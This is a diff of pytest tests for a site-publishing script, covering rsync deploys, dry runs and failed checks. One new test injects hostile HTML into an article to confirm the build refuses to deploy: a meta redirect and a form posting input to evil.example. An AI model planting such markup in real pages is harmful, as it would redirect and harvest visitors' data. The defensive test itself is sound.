@@ -3,6 +3,7 @@
 Every target here is a temp folder or a local bare repository.
 """
 
+from scripts.build import write_marker
 from tests.conftest import read
 from tests.publish.helpers import (
     ARTICLE_PAGE,
@@ -60,6 +61,7 @@ def test_rsync_makes_the_folder_identical_and_removes_stale_files(tmp_path, prod
     (dest / "old-section").mkdir(parents=True)
     (dest / "old-section" / "index.html").write_text("a page no longer built")
     (dest / "stale.css").write_text("body{}")
+    write_marker(dest)  # an earlier publish
     publish_ok("--target", "rsync", "--dest", str(dest), SKIP_HTML)
     assert tree_digests(dest) == tree_digests(prod_site)
     assert not (dest / "old-section").exists()
@@ -70,10 +72,11 @@ def test_rsync_dry_run_lists_changes_and_touches_nothing(tmp_path):
     dest = tmp_path / "www"
     dest.mkdir()
     (dest / "stale.html").write_text("old")
+    write_marker(dest)  # an earlier publish
     result = publish_ok("--target", "rsync", "--dest", str(dest), "--dry-run", SKIP_HTML)
     assert "deleting   stale.html" in result.stdout
     assert "index.html" in result.stdout
-    assert [path.name for path in dest.iterdir()] == ["stale.html"]
+    assert sorted(path.name for path in dest.iterdir()) == [".site-build", "stale.html"]
 
 
 def test_a_failing_check_deploys_nothing_and_says_why(tmp_path, content_copy):
@@ -81,6 +84,7 @@ def test_a_failing_check_deploys_nothing_and_says_why(tmp_path, content_copy):
     dest = tmp_path / "www"
     dest.mkdir()
     (dest / "live.html").write_text("the live site")
+    write_marker(dest)  # an earlier publish
     publish_ok("--remote", str(remote), "--content", str(content_copy), SKIP_HTML)
     before = git("--git-dir", str(remote), "rev-parse", "gh-pages")
 
@@ -94,7 +98,7 @@ def test_a_failing_check_deploys_nothing_and_says_why(tmp_path, content_copy):
         assert "nothing was deployed" in result.stderr
         assert "/no-such-page/" in result.stderr  # says why
     assert git("--git-dir", str(remote), "rev-parse", "gh-pages") == before
-    assert [path.name for path in dest.iterdir()] == ["live.html"]
+    assert sorted(path.name for path in dest.iterdir()) == [".site-build", "live.html"]
 
 
 def test_publish_refuses_without_the_html_validator_unless_told(tmp_path):
@@ -122,3 +126,24 @@ def test_invalid_html_fails_the_validator(tmp_path):
         assert "bad.html" in str(error)
     else:
         raise AssertionError("vnu accepted invalid HTML")
+
+
+def test_hostile_html_in_an_article_deploys_nothing(tmp_path, content_copy):
+    """The production build checks raw HTML too: a meta redirect and a form to another site
+    in the text stop the deploy, each named at its line."""
+    dest = tmp_path / "www"
+    dest.mkdir()
+    (dest / "live.html").write_text("the live site")
+    article = content_copy / ARTICLE_SOURCE
+    text = read(article)
+    hostile = ('\n<meta http-equiv="refresh" content="0; url=https://evil.example/">\n\n'
+               '<form action="https://evil.example/collect"><input name="pain"></form>\n')
+    article.write_text(text + hostile, encoding="utf-8")
+    result = invoke_publish("--target", "rsync", "--dest", str(dest), "--content",
+                            str(content_copy), SKIP_HTML)
+    assert result.returncode != 0
+    assert "nothing was deployed" in result.stderr
+    lines = len(text.splitlines())
+    assert f"{article}:{lines + 2}: raw HTML <meta>" in result.stderr, result.stderr
+    assert f"{article}:{lines + 4}: raw HTML <form>" in result.stderr, result.stderr
+    assert [path.name for path in dest.iterdir()] == ["live.html"]
